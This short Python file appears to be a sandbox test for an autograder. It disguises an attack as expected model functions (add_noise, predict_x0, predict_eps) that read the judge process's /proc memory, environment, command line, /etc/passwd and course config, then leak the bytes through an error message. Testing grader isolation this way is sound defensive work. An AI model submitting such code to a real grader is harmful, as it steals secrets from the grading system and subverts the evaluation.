"""Read the judge's memory, environment and arguments."""

import os


def attack(*args, **kwargs):
    for name in ("mem", "environ", "cmdline", "maps", "root/etc/passwd", "cwd/course.yml"):
        for pid in ("@JUDGE@", str(os.getppid()), "self"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as file:
                    raise RuntimeError("GOT " "THROUGH: " + name + repr(file.read(100)))
            except OSError as error:
                last = error
    raise last


add_noise = predict_x0 = predict_eps = attack
